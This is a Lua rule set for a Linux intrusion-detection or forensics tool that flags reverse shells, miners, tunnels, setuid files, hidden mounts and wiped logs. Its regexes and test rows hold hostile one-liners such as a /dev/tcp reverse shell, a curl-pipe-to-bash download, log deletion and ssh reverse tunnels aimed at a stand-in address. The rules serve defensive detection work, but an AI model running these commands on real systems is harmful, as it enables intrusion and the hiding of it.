-- intruders - what somebody leaves who got in and has no module of the kernel: programs in odd places, shells on connections,
-- miners and tunnels, rights, files that give rights, and what is done so that no trace stays.

local shells = { sh = true, ash = true, bash = true, dash = true, rbash = true, zsh = true, ksh = true, mksh = true,
  fish = true, csh = true, tcsh = true }
local interpreters = { python = true, perl = true, ruby = true, php = true, node = true, lua = true, tclsh = true, socat = true }

-- The name of a program without what stands before and behind it: /usr/bin/python3.11 is python, -bash is bash.
local function program(name)
  return type(name) == "string" and name:match("^%-?(%S*)"):match("[^/]*$"):match("^%a*") or ""
end

local function text(cell) return type(cell) == "string" and cell or "" end

-- Folders where anybody may write, and names that a listing does not show there.
local PUBLIC = "^/(tmp|var/tmp|dev/shm|dev/mqueue|run/user|run/shm|var/lock|run/lock)/"
local function is_hidden(path)
  return path:find("^/dev/") or path:find("/%.%.%.") or path:find("[ \t]/") or path:find("^/tmp/.*%f[^/]%.[^/]") or path:find("^/tmp/%.")
    or path:find("^/var/tmp/%.") or path:find("^/var/tmp/.*/%.")
end

-- ---- programs ----

rule {
  id = "program-in-odd-place",
  title = "{COMM} ({PID}) runs from a folder where anybody may write",
  severity = "low",
  plugin = "lsof",
  where = "KIND = exe and (PATH ~ '" .. PUBLIC .. "' or PATH ~ '/[.][.][.]' or PATH ~ '^/(dev|proc|sys)/' or PATH ~ '/[^/]* /')",
  match = function(row) return is_hidden(text(row.PATH)) and "medium" or "low" end,
  key = { "PID" },
  show = { "COMM", "PATH", "UID", "MTIME", "CTIME" },
  why = "Installed programs are not there; one in /dev/shm or under a hidden name is there so that nobody finds it.",
  benign = "Installers, AppImages, builds, agents that unpack themselves into /tmp.",
  attack = "T1036.005",
  more = "psaux --pid {PID}",
  hits = { { PID = 5, KIND = "exe", PATH = "/dev/shm/x" }, { PID = 5, KIND = "exe", PATH = "/tmp/.X11-unix/x" },
    { PID = 5, KIND = "exe", PATH = "/usr/share/.../x" }, { PID = 5, KIND = "exe", PATH = "/tmp/build/x" } },
  misses = { { PID = 5, KIND = "exe", PATH = "/usr/bin/x" }, { PID = 5, KIND = "exe", PATH = "/home/u/.local/bin/x" },
    { PID = 5, KIND = "cwd", PATH = "/dev/shm/x" } },
}

rule {
  id = "started-by-loader",
  title = "{COMM} ({PID}) is the dynamic loader, and runs a program that was given to it",
  severity = "low",
  plugin = "lsof",
  where = "KIND = exe and PATH ~ '/ld-(linux|musl|[0-9])[^/]*$'",
  key = { "PID" },
  show = { "COMM", "PATH", "UID" },
  why = "A program that is started so needs no right to be run, nor a file system that allows it, and hides its name from /proc/PID/exe.",
  benign = "Programs with libraries of their own (Steam, bundles), builds.",
  attack = "T1218",
  more = "maps --pid {PID}",
  hits = { { PID = 5, KIND = "exe", PATH = "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2" }, { PID = 5, KIND = "exe", PATH = "/lib/ld-musl-x86_64.so.1" },
    { PID = 5, KIND = "exe", PATH = "/lib/x86_64-linux-gnu/ld-2.31.so" } },
  misses = { { PID = 5, KIND = "exe", PATH = "/usr/bin/ld" }, { PID = 5, KIND = "exe", PATH = "/usr/bin/ld-linux.d/x" },
    { PID = 5, KIND = "fd", PATH = "/lib/ld-musl-x86_64.so.1" } },
}

rule {
  id = "library-in-odd-place",
  title = "{COMM} ({PID}) has mapped code from a folder where anybody may write",
  severity = "low",
  plugins = { maps = "FLAGS ~ x and PATH ~ '" .. PUBLIC .. "'", lsof = "KIND = exe and PATH ~ '" .. PUBLIC .. "'" },
  find = function(rows)
    local own, found = {}, {}
    for _, r in ipairs(rows.lsof) do own[r.PID] = r.PATH end
    for _, r in ipairs(rows.maps) do
      if r.PATH ~= own[r.PID] then
        found[#found + 1] = { PID = r.PID, COMM = r.COMM, START = r.START, PATH = r.PATH, SEVERITY = is_hidden(text(r.PATH)) and
          "medium" or nil }
      end
    end
    return found
  end,
  key = { "PID" },
  show = { "COMM", "START", "PATH" },
  why = "Libraries are installed with a program; one in /dev/shm or under a hidden name was put there for this process.",
  benign = "Programs in Java and others that unpack their libraries into /tmp.",
  attack = "T1574.006",
  more = "ldrmodules --pid {PID}",
  hits = { { maps = { { PID = 5, COMM = "x", FLAGS = "r-xp", PATH = "/dev/shm/.x.so" } } },
    { maps = { { PID = 5, COMM = "x", FLAGS = "r-xp", PATH = "/tmp/x.so" } }, lsof = { { PID = 5, KIND = "exe", PATH = "/tmp/x" } } } },
  misses = { { maps = { { PID = 5, FLAGS = "r-xp", PATH = "/tmp/x" } }, lsof = { { PID = 5, KIND = "exe", PATH = "/tmp/x" } } },
    { maps = { { PID = 5, FLAGS = "rw-p", PATH = "/tmp/x.so" }, { PID = 5, FLAGS = "r-xp", PATH = "/usr/lib/x.so" } } } },
}

rule {
  id = "no-arguments",
  title = "{COMM} ({PID}) was started without any argument, not even its name",
  severity = "low",
  plugin = "spoofed",
  where = "REASON ~ 'no argv.0'",
  key = { "PID" },
  show = { "PPID", "COMM", "EXE", "REASON" },
  why = "Shells and libraries give a name to whatever they start; exploits and loaders do not.",
  benign = "Programs that wrote over their own arguments.",
  attack = "T1036",
  more = "spoofed --pid {PID}",
  hits = { { PID = 5, SCORE = 2, COMM = "x", REASON = "no argv[0]" } },
  misses = { { PID = 5, SCORE = 2, COMM = "x", REASON = "argv[0] is not exe's name" } },
}

rule {
  id = "miner",
  title = "{COMM} ({PID}) has the arguments of a cryptocurrency miner",
  severity = "medium",
  plugin = "psaux",
  where = "ARGS ~ 'stratum[+0-9a-z]*://|--donate-level|--coin[ =]|--algo[ =](rx|cn|kawpow|randomx|ghostrider)|xmrig|cpuminer|minerd "
    .. "|nicehash|-o [a-z0-9.-]*pool[a-z0-9.-]*:[0-9]'",
  key = { "PID" },
  show = { "COMM", "ARGS", "EUID", "CREATION_TIME" },
  why = "The most frequent use of machines that were taken over.",
  benign = "The owner mines; a search for miners.",
  attack = "T1496",
  more = "sockets --pid {PID}",
  hits = { { PID = 5, COMM = "x", ARGS = "./x -o stratum+tcp://203.0.113.5:3333 -u w" }, { PID = 5, ARGS = "x --donate-level=1" } },
  misses = { { PID = 5, COMM = "x", ARGS = "x -o file" }, { PID = 5, ARGS = "psql -h pooler" } },
}

rule {
  id = "tunnel",
  title = "{COMM} ({PID}) is a tunnel into this network, or out of it",
  severity = "low",
  plugin = "psaux",
  where = "ARGS ~ '(^|/)(auto)?ssh( .*)? -[a-zA-Z0-9]*[RDw]( |[0-9])|(^|/)(chisel|frpc|frps|ngrok|cloudflared|gost|ligolo[a-z-]*|revsocks"
    .. "|bore|rathole|gs-netcat|iodined?|dnscat2?|ptunnel[a-z-]*|stunnel4?|pwnat|3proxy)( |$)'",
  key = { "PID" },
  show = { "COMM", "ARGS", "EUID", "CREATION_TIME" },
  why = "Whoever is at the other end reaches hosts behind the firewall as if from here.",
  benign = "Administration from afar, developers' tunnels.",
  attack = "T1572",
  more = "sockets --pid {PID}",
  hits = { { PID = 5, COMM = "ssh", ARGS = "ssh -fN -R 2222:127.0.0.1:22 u@203.0.113.5" }, { PID = 5,
    ARGS = "/tmp/chisel client 203.0.113.5" },
    { PID = 5, ARGS = "ssh -ND 1080 h" } },
  misses = { { PID = 5, COMM = "ssh", ARGS = "ssh u@203.0.113.5" }, { PID = 5, ARGS = "sshd: u [priv]" }, { PID = 5,
    ARGS = "ssh -L 80:h:80 h" } },
}

-- ---- shells ----

-- Does this process wait for what somebody types: a shell without a script?
local function is_interactive(row)
  local words = {}
  for word in text(row.ARGS):gmatch("%S+") do words[#words + 1] = word end
  if not shells[program(words[1])] then return false end
  for i = 2, #words do
    if words[i]:find("^%-%a*c$") or not words[i]:find("^%-") then return false end
  end
  return true
end

local NETWORK = "FAMILY ~ '^AF_(INET6?|VSOCK|SCTP)$' and PID > 0"

rule {
  id = "shell-on-connection",
  title = "{COMM} ({PID}) reads from a connection of the network what it runs",
  severity = "medium",
  plugins = { sockets = NETWORK .. " and FD <= 2", psaux = "" },
  find = function(rows)
    local command, ends, found = {}, {}, {}
    for _, r in ipairs(rows.psaux) do command[r.PID] = r end
    for _, r in ipairs(rows.sockets) do
      local p, seen = command[r.PID], ends[r.PID]
      local name = p and program(p.ARGS)
      if r.FD == 0 and p and (shells[name] or interpreters[name]) then ends[r.PID] = r end
      if r.FD > 0 and p and shells[name] and not seen then ends[r.PID] = r end
    end
    for pid, r in pairs(ends) do
      local p = command[pid]
      found[#found + 1] = { PID = pid, COMM = p.COMM, ARGS = p.ARGS, SOURCE_ADDR = r.SOURCE_ADDR, SOURCE_PORT = r.SOURCE_PORT,
        DESTINATION_ADDR = r.DESTINATION_ADDR, DESTINATION_PORT = r.DESTINATION_PORT, STATE = r.STATE,
        SEVERITY = is_interactive(p) and "high" or nil }
    end
    table.sort(found, function(a, b) return a.PID < b.PID end)
    return found
  end,
  key = { "PID" },
  show = { "COMM", "ARGS", "SOURCE_ADDR", "SOURCE_PORT", "DESTINATION_ADDR", "DESTINATION_PORT", "STATE" },
  why = "A shell whose input is the network runs what somebody far away types: a reverse shell, or one behind a listener.",
  benign = "Scripts that inetd or systemd start for a connection are medium; for a shell without a script none is known.",
  attack = "T1059.004",
  more = "sockets --pid {PID}",
  hits = { { sockets = { { PID = 5, FD = 0, FAMILY = "AF_INET" } }, psaux = { { PID = 5, COMM = "sh", ARGS = "/bin/sh -i" } } },
    { sockets = { { PID = 5, FD = 0, FAMILY = "AF_INET6" } }, psaux = { { PID = 5, COMM = "python3", ARGS = "python3 -c x" } } } },
  misses = { { sockets = { { PID = 5, FD = 0, FAMILY = "AF_INET" } }, psaux = { { PID = 5, COMM = "sshd", ARGS = "sshd -i" } } },
    { sockets = { { PID = 5, FD = 0, FAMILY = "AF_UNIX" } }, psaux = { { PID = 5, COMM = "sh", ARGS = "sh" } } },
    { sockets = { { PID = 5, FD = 3, FAMILY = "AF_INET" } }, psaux = { { PID = 5, COMM = "bash", ARGS = "bash" } } } },
}

rule {
  id = "piped-shell",
  title = "{COMM} ({PID}) is a shell between pipes, and one of them leads to the network",
  severity = "high",
  plugins = { lsof = "KIND = fd and TYPE = FIFO", sockets = NETWORK, psaux = "" },
  find = function(rows)
    local online, pipe, found = {}, {}, {}
    for _, r in ipairs(rows.sockets) do online[r.PID] = true end
    for _, r in ipairs(rows.lsof) do
      if r.FD == 0 or r.FD == 1 then
        pipe[r.PID] = pipe[r.PID] or {}
        pipe[r.PID][r.FD] = r
      end
    end
    for _, p in ipairs(rows.psaux) do
      local ends = pipe[p.PID]
      if ends and ends[0] and ends[1] and is_interactive(p) then
        local peers = text(ends[0].PEERS) .. "," .. text(ends[1].PEERS)
        for number in peers:gmatch("%d+") do
          if online[math.tointeger(number)] then
            found[#found + 1] = { PID = p.PID, COMM = p.COMM, ARGS = p.ARGS, PEERS = peers }
            break
          end
        end
      end
    end
    return found
  end,
  key = { "PID" },
  show = { "COMM", "ARGS", "PEERS" },
  why = "What comes from the network is given to a shell, and what it answers goes back: a shell for somebody far away.",
  benign = "None that is known: the shell has no script.",
  attack = "T1059.004",
  more = "lsof --pid {PID}",
  hits = { { psaux = { { PID = 5, COMM = "sh", ARGS = "sh -i" } }, sockets = { { PID = 6, FD = 3, FAMILY = "AF_INET" } },
    lsof = { { PID = 5, KIND = "fd", TYPE = "FIFO", FD = 0, PEERS = "4" }, { PID = 5, KIND = "fd", TYPE = "FIFO", FD = 1,
      PEERS = "6" } } } },
  misses = { { psaux = { { PID = 5, COMM = "sh", ARGS = "sh -c x" } }, sockets = { { PID = 6, FD = 3, FAMILY = "AF_INET" } },
    lsof = { { PID = 5, KIND = "fd", TYPE = "FIFO", FD = 0, PEERS = "4" }, { PID = 5, KIND = "fd", TYPE = "FIFO", FD = 1, PEERS = "6" } } },
    { psaux = { { PID = 5, COMM = "sh", ARGS = "sh -i" } }, sockets = { { PID = 7, FD = 3, FAMILY = "AF_INET" } },
      lsof = { { PID = 5, KIND = "fd", TYPE = "FIFO", FD = 0, PEERS = "4" }, { PID = 5, KIND = "fd", TYPE = "FIFO", FD = 1,
        PEERS = "6" } } } },
}

rule {
  id = "shell-of-a-service",
  title = "{COMM} ({PID}) is a shell that a service of the network started",
  severity = "medium",
  plugins = { psaux = "" },
  find = function(rows)
    local servers = { nginx = true, apache2 = true, httpd = true, lighttpd = true, caddy = true, tomcat = true, java = true, mysqld = true,
      mariadbd = true, postgres = true, mongod = true, named = true, vsftpd = true, proftpd = true, smbd = true, uwsgi = true,
      gunicorn = true, memcached = true, php = true, ["redis-server"] = true, ["php-fpm"] = true }
    local command, found = {}, {}
    for _, r in ipairs(rows.psaux) do command[r.PID] = r end
    for _, r in ipairs(rows.psaux) do
      local parent = command[r.PPID]
      local name = parent and text(parent.COMM)
      if name and shells[text(r.COMM)] and (servers[name] or servers[name:match("^[%a-]*")]) then
        found[#found + 1] = { PID = r.PID, PPID = r.PPID, COMM = r.COMM, EUID = r.EUID, CREATION_TIME = r.CREATION_TIME,
          ARGS = name .. " > " .. text(r.ARGS),
          SEVERITY = (name == "java" or name == "postgres") and "low" or nil }
      end
    end
    return found
  end,
  key = { "PID" },
  show = { "PPID", "COMM", "EUID", "ARGS", "CREATION_TIME" },
  why = "Services have no need of a shell; whoever found a hole in one has.",
  benign = "CGI, hooks and backups that are shell scripts: look at what it runs. Java's servers for builds and PostgreSQL do so "
    .. "often: low.",
  attack = "T1505.003",
  more = "pstree --pid {PID}",
  hits = { { psaux = { { PID = 5, PPID = 1, COMM = "nginx", ARGS = "nginx" }, { PID = 6, PPID = 5, COMM = "sh", ARGS = "sh -c id" } } },
    { psaux = { { PID = 5, PPID = 1, COMM = "php-fpm8.2", ARGS = "php-fpm: pool www" }, { PID = 6, PPID = 5, COMM = "sh",
      ARGS = "sh" } } } },
  misses = { { psaux = { { PID = 5, PPID = 1, COMM = "sshd", ARGS = "sshd: u" }, { PID = 6, PPID = 5, COMM = "bash", ARGS = "-bash" } } },
    { psaux = { { PID = 5, PPID = 1, COMM = "nginx", ARGS = "nginx" }, { PID = 6, PPID = 5, COMM = "nginx",
      ARGS = "nginx: worker process" } } } },
}

-- ---- rights ----

rule {
  id = "rights-of-root",
  title = "{COMM} ({PID}) is not root, and has rights of root that nothing gives a shell",
  severity = "medium",
  plugin = "setuid",
  where = "EUID > 0 and CAP_EFFECTIVE ~ 'sys_module|sys_admin|sys_ptrace|sys_rawio|dac_override|dac_read_search|setuid|bpf|all' "
    .. "and not REASON ~ 'user namespace of its own'",
  match = function(row)
    local name = program(row.EXE)
    return (shells[name] or interpreters[name]) and true or "info"
  end,
  key = { "PID" },
  show = { "COMM", "EUID", "CAP_EFFECTIVE", "CAP_AMBIENT", "EXE", "REASON" },
  why = "With one of these a program can make itself root; shells and interpreters run whatever they are told.",
  benign = "A service that is a script, and whose unit gives it the right.",
  attack = "T1548",
  more = "setuid --pid {PID}",
  hits = { { PID = 5, EUID = 1001, CAP_EFFECTIVE = "dac_override,sys_module", EXE = "/usr/bin/bash",
    REASON = "capabilities without being root" },
    { PID = 5, EUID = 1001, CAP_EFFECTIVE = "setuid", EXE = "/usr/bin/python3.11", REASON = "capabilities without being root" } },
  misses = { { PID = 5, EUID = 0, CAP_EFFECTIVE = "sys_module", EXE = "/usr/bin/bash", REASON = "x" },
    { PID = 5, EUID = 1001, CAP_EFFECTIVE = "net_raw", EXE = "/usr/bin/bash", REASON = "x" },
    { PID = 5, EUID = 1001, CAP_EFFECTIVE = "all", EXE = "/usr/bin/bash", REASON = "capabilities in a user namespace of its own" } },
}

rule {
  id = "setuid-file",
  title = "A file where anybody may write gives its owner's rights to who runs it",
  severity = "high",
  plugin = "files",
  where = "TYPE = REG and FILE_MODE ~ '^-..s' and UID = 0 and (PATH ~ '/[.][^/]*$' "
    .. "or ((PATH ~ '" .. PUBLIC .. "' or PATH ~ '^/(home|root|dev|run)/') and not PATH ~ '/(usr|s?bin|lib|libexec)/|/chrome-sandbox$'))",
  show = { "PATH", "FILE_MODE", "UID", "SIZE", "MTIME", "CTIME" },
  why = "A shell with this bit makes root of any user; packages install such programs in /usr only.",
  benign = "None that is known: file systems of containers and other roots, where such programs are in folders as in /usr, are left out.",
  attack = "T1548.001",
  more = "files --type REG --filter \"FILE_MODE ~ '^-..s'\"",
  hits = { { TYPE = "REG", FILE_MODE = "-rwsr-xr-x", UID = 0, PATH = "/var/tmp/.sh" }, { TYPE = "REG", FILE_MODE = "-rwsr-xr-x",
    UID = 0, PATH = "/usr/lib/.x" } },
  misses = { { TYPE = "REG", FILE_MODE = "-rwsr-xr-x", UID = 0, PATH = "/usr/bin/su" }, { TYPE = "REG", FILE_MODE = "-rwxr-xr-x",
    UID = 0, PATH = "/var/tmp/.sh" },
    { TYPE = "REG", FILE_MODE = "-rwxr-sr-x", UID = 0, PATH = "/home/mail/x" },
    { TYPE = "REG", FILE_MODE = "-rwsr-xr-x", UID = 0, PATH = "/run/containerd/x/rootfs/usr/bin/su" } },
}

rule {
  id = "raw-socket",
  title = "{COMM} ({PID}) takes packets of {PROTO} that are not for it",
  severity = "low",
  plugin = "sockets",
  where = "TYPE = RAW and FAMILY ~ '^AF_INET6?$' and PID > 0",
  key = { "PID" },
  show = { "COMM", "FD", "FAMILY", "PROTO", "UID", "SOCKET_FILTER" },
  why = "A raw socket sees packets that no open port shows: backdoors that wait for a ping use one.",
  benign = "ping, traceroute, DHCP, routing daemons, monitoring.",
  attack = "T1205",
  more = "sockets --pid {PID}",
  hits = { { PID = 5, COMM = "x", FAMILY = "AF_INET", TYPE = "RAW", PROTO = "ICMP" } },
  misses = { { PID = 5, COMM = "x", FAMILY = "AF_INET", TYPE = "STREAM" }, { PID = 5, COMM = "x", FAMILY = "AF_PACKET", TYPE = "RAW" } },
}

rule {
  id = "raw-memory",
  title = "{COMM} ({PID}) has memory open that is not its own",
  severity = "low",
  plugin = "lsof",
  where = "KIND = fd and PATH ~ '^/dev/(mem|kmem|port)$|^/proc/kcore$|^/proc/[0-9]+/(task/[0-9]+/)?mem$'",
  match = function(row) return text(row.PATH):find("^/dev/") and text(row.OPEN_FLAGS):find("RDWR") and "medium" or "low" end,
  key = { "PID" },
  show = { "COMM", "FD", "PATH", "OPEN_FLAGS" },
  why = "It can read what other processes and the kernel keep, and write there too if it opened it so.",
  benign = "Debuggers, tools that acquire memory or read the firmware's tables, old graphics drivers.",
  attack = "T1003.007",
  more = "lsof --pid {PID}",
  hits = { { PID = 5, KIND = "fd", PATH = "/dev/mem", OPEN_FLAGS = "O_RDONLY" }, { PID = 5, KIND = "fd", PATH = "/proc/1/mem" } },
  misses = { { PID = 5, KIND = "fd", PATH = "/proc/1/maps" }, { PID = 5, KIND = "fd", PATH = "/tmp/dev/mem" } },
}

-- ---- what hides, and what leaves no trace ----

rule {
  id = "covered-process",
  title = "Something is mounted over a process in /proc",
  severity = "high",
  plugin = "mounts",
  where = "MOUNT_POINT ~ '^/proc/[0-9]+(/|$)'",
  key = { "MOUNT_POINT" },
  show = { "NS", "MOUNT_POINT", "ROOT", "FSTYPE", "MOUNT_SRC" },
  why = "ps and the like read /proc/PID, and see what is mounted there instead of the process.",
  benign = "None that is known.",
  attack = "T1564.013",
  more = "mounts --filter \"MOUNT_POINT ~ '^/proc/[0-9]'\"",
  hits = { { NS = 1, MOUNT_POINT = "/proc/4711", ROOT = "/empty", FSTYPE = "tmpfs" } },
  misses = { { NS = 1, MOUNT_POINT = "/proc/kcore" }, { NS = 1, MOUNT_POINT = "/proc" }, { NS = 1, MOUNT_POINT = "/srv/proc/4711" } },
}

rule {
  id = "covered-file",
  title = "Something is mounted over {MOUNT_POINT}",
  severity = "medium",
  plugins = { mounts = "MOUNT_POINT ~ '^/(usr/(local/)?)?s?bin/|^/(usr/)?lib[a-z0-9]*/(.*[.]so|security/)"
    .. "|^/etc/(passwd|shadow|group|sudoers|pam[.]d|ld[.]so)'",
    namespaces = "TYPE = mnt and INITIAL = true" },
  find = function(rows)
    local found = {}
    for _, r in ipairs(rows.mounts) do
      for _, n in ipairs(rows.namespaces) do
        if n.NS == r.NS then found[#found + 1] = r end
      end
    end
    return found
  end,
  key = { "MOUNT_POINT" },
  show = { "NS", "MOUNT_POINT", "ROOT", "FSTYPE", "MOUNT_SRC" },
  why = "The file on the disk is the right one, and another is used. In containers that is usual; this is not one.",
  benign = "Systems whose root cannot be written to.",
  attack = "T1564",
  more = "mounts",
  hits = { { mounts = { { NS = 1, MOUNT_POINT = "/usr/bin/login", ROOT = "/.l" } }, namespaces = { { NS = 1, TYPE = "mnt",
    INITIAL = true } } } },
  misses = { { mounts = { { NS = 2, MOUNT_POINT = "/usr/bin/login" } }, namespaces = { { NS = 1, TYPE = "mnt", INITIAL = true } } },
    { mounts = { { NS = 1, MOUNT_POINT = "/usr/share" } }, namespaces = { { NS = 1, TYPE = "mnt", INITIAL = true } } } },
}

rule {
  id = "hidden-file",
  title = "Files under names that a listing does not show, where anybody may write",
  severity = "medium",
  plugin = "files",
  where = "TYPE = REG and (PATH ~ '/[.][.][.]' or PATH ~ '/[.]{0,2} +/' or (FILE_MODE ~ 'x' "
    .. "and (PATH ~ '^/dev/' or PATH ~ '^/(tmp|var/tmp|run/lock|var/lock)/(.*/)?[.]')))",
  show = { "PATH", "FILE_MODE", "UID", "SIZE", "MTIME" },
  why = "Tools of intruders wait there: nothing else makes a folder of that name, or programs in it.",
  benign = "Installers and AppImages that unpack into a hidden folder of /tmp.",
  attack = "T1564.001",
  more = "files --type REG --path '/tmp/*' --path '/var/tmp/*' --path '/dev/shm/*'",
  hits = { { TYPE = "REG", FILE_MODE = "-rwxr-xr-x", PATH = "/tmp/.X11-unix/x" }, { TYPE = "REG", FILE_MODE = "-rw-r--r--",
    PATH = "/usr/share/.../x" },
    { TYPE = "REG", FILE_MODE = "-rwxr-xr-x", PATH = "/dev/shm/x" }, { TYPE = "REG", FILE_MODE = "-rw-r--r--", PATH = "/var/.. /x" } },
  misses = { { TYPE = "REG", FILE_MODE = "-rw-r--r--", PATH = "/tmp/.X0-lock" }, { TYPE = "REG", FILE_MODE = "-rwxr-xr-x",
    PATH = "/tmp/build/x" },
    { TYPE = "REG", FILE_MODE = "-rw-r--r--", PATH = "/dev/shm/x" }, { TYPE = "REG", FILE_MODE = "-rwxr-xr-x",
      PATH = "/srv/with space/x" } },
}

rule {
  id = "unlisted-file",
  title = "A file is not on the list of its file system",
  severity = "medium",
  plugin = "inodes",
  where = "HINTS ~ unlisted",
  show = { "FSTYPE", "INODE", "FILE_MODE", "PATH", "FOUND_BY" },
  why = "A name or the table of inodes leads to it, and the file system's own list does not have it.",
  benign = "A file that was made or removed while the image was taken.",
  attack = "T1564.001",
  more = "inodes --filter \"HINTS ~ unlisted\"",
  hits = { { FSTYPE = "ext4", INODE = 12, HINTS = "unlisted", PATH = "/usr/lib/x" } },
  misses = { { FSTYPE = "ext4", INODE = 12, HINTS = "covered", PATH = "/usr/lib/x" }, { FSTYPE = "ext4", INODE = 12, PATH = "/usr/lib/x" } },
}

rule {
  id = "history-off",
  title = "{COMM} ({PID}) was told to keep no history of what is typed",
  severity = "medium",
  plugin = "envars",
  where = "(KEY = HISTFILE and (VALUE = '/dev/null' or VALUE = '')) or (KEY ~ '^(HISTSIZE|HISTFILESIZE|SAVEHIST)$' and VALUE = '0')",
  key = { "PID" },
  show = { "COMM", "KEY", "VALUE" },
  why = "Who has nothing to hide leaves the variable alone.",
  benign = "Automation, and images of containers that set it for all.",
  attack = "T1070.003",
  more = "envars --pid {PID}",
  hits = { { PID = 5, COMM = "bash", KEY = "HISTFILE", VALUE = "/dev/null" }, { PID = 5, COMM = "bash", KEY = "HISTSIZE", VALUE = "0" } },
  misses = { { PID = 5, COMM = "bash", KEY = "HISTFILE", VALUE = "/root/.bash_history" }, { PID = 5, COMM = "bash", KEY = "HISTSIZE",
    VALUE = "1000" } },
}

rule {
  id = "history-of-an-intruder",
  title = "{COMM} ({PID}) was given commands that intruders use",
  severity = "low",
  plugin = "bash",
  where = "COMMAND ~ '(curl|wget|fetch) .*[|] *(sudo )?(ba|da|z)?sh|base64 +(-d|--decode).*[|] *(ba|da|z)?sh|/dev/(tcp|udp)/"
    .. "|unset +HIST|HIST(FILE|SIZE|FILESIZE)=(0|/dev/null|$)|history +-[cw]|set +[+]o +history|chattr +[+]i|ld[.]so[.]preload"
    .. "|setenforce +0|insmod +/(tmp|dev/shm|var/tmp)|>+ */var/log/|(rm|shred) .*(/var/log/|_history|[uwb]tmp)"
    .. "|(nc|ncat) .*-[a-z]*e |mkfifo .*(nc|telnet|openssl) |touch +-[a-z]*r '",
  match = function(row)
    local line = text(row.COMMAND)
    return (line:find("HIST") or line:find("history +%-[cw]") or line:find("%+o +history") or line:find("/var/log/") or
      line:find("_history")
      or line:find("/dev/tcp/", 1, true) or line:find("ld.so.preload", 1, true)) and "medium" or "low"
  end,
  key = { "PID" },
  show = { "COMM", "KIND", "COMMAND_TIME", "COMMAND" },
  why = "Programs that are taken from the network and run at once, shells on connections, traces that are wiped.",
  benign = "Installers are started so too: low. What wipes traces is medium.",
  attack = "T1059.004",
  more = "bash --pid {PID}",
  hits = { { PID = 5, COMM = "bash", COMMAND = "curl -fsSL http://203.0.113.5/a | bash" }, { PID = 5, COMMAND = "unset HISTFILE" },
    { PID = 5, COMMAND = "bash -i >& /dev/tcp/203.0.113.5/443 0>&1" }, { PID = 5, COMMAND = "rm -f /var/log/auth.log" } },
  misses = { { PID = 5, COMMAND = "curl -o a.sh http://203.0.113.5/a" }, { PID = 5, COMMAND = "history | tail" }, { PID = 5,
    COMMAND = "tail -f /var/log/syslog" } },
}

rule {
  id = "history-to-nowhere",
  title = "Records of what was done lead to /dev/null",
  severity = "medium",
  plugin = "files",
  where = "TYPE = LNK and TARGET = '/dev/null' and PATH ~ '_history$|^/var/(log|run)/|^/run/utmp'",
  show = { "PATH", "TARGET", "UID", "CTIME" },
  why = "What is written there is lost, and the program that writes sees no error.",
  benign = "An administrator who wants no history of a password-less account.",
  attack = "T1070.003",
  more = "files --type LNK --filter \"TARGET = /dev/null\"",
  hits = { { TYPE = "LNK", TARGET = "/dev/null", PATH = "/root/.bash_history" }, { TYPE = "LNK", TARGET = "/dev/null",
    PATH = "/var/log/wtmp" } },
  misses = { { TYPE = "LNK", TARGET = "/dev/null", PATH = "/etc/systemd/system/x.service" }, { TYPE = "LNK", TARGET = "/run/x",
    PATH = "/var/log/x" } },
}

rule {
  id = "removed-log",
  title = "{COMM} ({PID}) writes into a log that was removed",
  severity = "low",
  plugin = "deleted",
  where = "KIND = fd and PATH ~ '^/var/log/|^/run/log/|/[uwb]tmp |/lastlog |_history '",
  match = function(row)
    for _, name in ipairs { "[uwb]tmp ", "/lastlog ", "/auth%.log ", "/secure ", "/audit%.log ", "_history " } do
      if text(row.PATH):find(name) then return "medium" end
    end
    return true
  end,
  key = { "PID" },
  show = { "COMM", "FD", "PATH", "SIZE", "LINKS" },
  why = "Its last lines are in memory only: `recover` may have them.",
  benign = "Rotation of logs by who does not tell the program; those of logins are renamed when they are rotated, not removed.",
  attack = "T1070.002",
  more = "deleted --pid {PID}",
  hits = { { PID = 5, KIND = "fd", PATH = "/var/log/auth.log (deleted)" }, { PID = 5, KIND = "fd", PATH = "/var/log/x (deleted)" } },
  misses = { { PID = 5, KIND = "fd", PATH = "/tmp/x (deleted)" }, { PID = 5, KIND = "mapping", PATH = "/var/log/x (deleted)" } },
}
